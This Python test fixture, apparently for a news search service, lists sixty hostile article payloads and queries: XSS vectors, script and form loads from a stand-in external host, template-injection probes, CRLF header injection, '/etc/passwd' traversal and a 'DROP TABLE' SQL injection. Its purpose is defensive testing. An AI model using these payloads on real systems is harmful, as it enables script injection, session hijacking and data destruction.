"""Sixty articles and sixty queries of people who mean harm, or whose programs broke: what stands in them, and why.

Each of PAYLOADS is the title, the text, the source, the region and the url of an article; each of QUERIES is typed.
"""

RUN = "self.harmed=1;alert(1)"  # leaves a trace even where a dialog is held back
FAR = "//elsewhere.example"  # a page that is asked for it tells another host

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<script type=module>import '{FAR}/x.js'</script>",
    f"\\x3cscript\\x3e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<script\n>{RUN}</script\n>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>кластер</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>кластер</marquee>",
    f"<mark onclick={RUN}>кластер</mark>",
    f"<a href=# onclick={RUN} style='position:fixed;inset:0'>кластер</a>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{RUN}",
    f"vbscript:{RUN}",
    f"https://user:word@elsewhere.example/?{RUN}",
    f'https://elsewhere.example/" onclick="{RUN}',
    f"{FAR}/x?{RUN}",
    f"<a href='javascript:{RUN}'>кластер</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
)
DRAWINGS = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
    f"<svg><a xlink:href='javascript:{RUN}'><rect width=99 height=99 /></a></svg>",
    f"<math><maction actiontype='statusline#{FAR}' xlink:href='javascript:{RUN}'>кластер",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
)
STYLES = (
    "<style>*{display:none!important}</style>",
    f"<style>@import '{FAR}/x.css';body{{background:url({FAR}/x.png)}}</style>",
    f"</style><link rel=stylesheet href={FAR}/x.css>",
    f"<base href='{FAR}/'><meta http-equiv=refresh content='0;url={FAR}/'>",
    f"<form action={FAR}/ id=q><input name=q></form>",
    "</main></body></html><!-- кластер",
)
TEMPLATES = (
    "{{ 7 * 7 }} {% for x in range(9) %}кластер{% endfor %} {# #}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> %s %(query)s {0} {query}",
    "&lt;script&gt;&amp;lt;&#60;&#x3c;&lt &nbsp &#0; &#x110000; &notanentity; &",
)
LETTERS = (
    "кластер\u202eретсалк\u202c \u2066изоляция",
    "\u200fקלאסטר של חדשנות\u200e עם кластер",
    "مجموعة صناعية кластер ١٢٣",
    "к\u0336л\u0336а\u0336с\u0336т\u0336е\u0336р " + "З" + "\u0300\u0316\u0489" * 40 + "алго",
    "кла\0стер \x07\x08\x1b[31m \x7f\x9f",
    "Сверхпроводникостроительный" * 30,
)
PAYLOADS = SCRIPTS + HANDLERS + ADDRESSES + DRAWINGS + STYLES + TEMPLATES + LETTERS

QUERIES = (
    *(f"кластер {payload}" for payload in (*SCRIPTS[:6], *HANDLERS[:8], *ADDRESSES[:4], *DRAWINGS[:6], *STYLES[:6])),
    *TEMPLATES,
    *LETTERS,
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"`${{{RUN}}}`",
    f'\\"; {RUN} //',
    f"заголовок:<script>{RUN}</script>",
    f'регион:"<img src=x onerror={RUN}>"',
    f"источник:javascript:{RUN}",
    "дата:<b>2016</b>..</b>",
    '"кластер <b>',
    "((((((((((((<i>кластер</i>))))))))))))",
    "кластер НЕ НЕ НЕ И ИЛИ",
    "-<s>-кластер</s>",
    "!<u>кластер</u>",
    "<*",
    "кла*<script>",
    '"<кластер>"~99999999999999',
    "кластер\r\nSet-Cookie: harmed=1",
    "кластер%0d%0aLocation:%20https://elsewhere.example",
    "../../../../etc/passwd\0.html",
    "x' OR '1'='1'; DROP TABLE articles --",
)
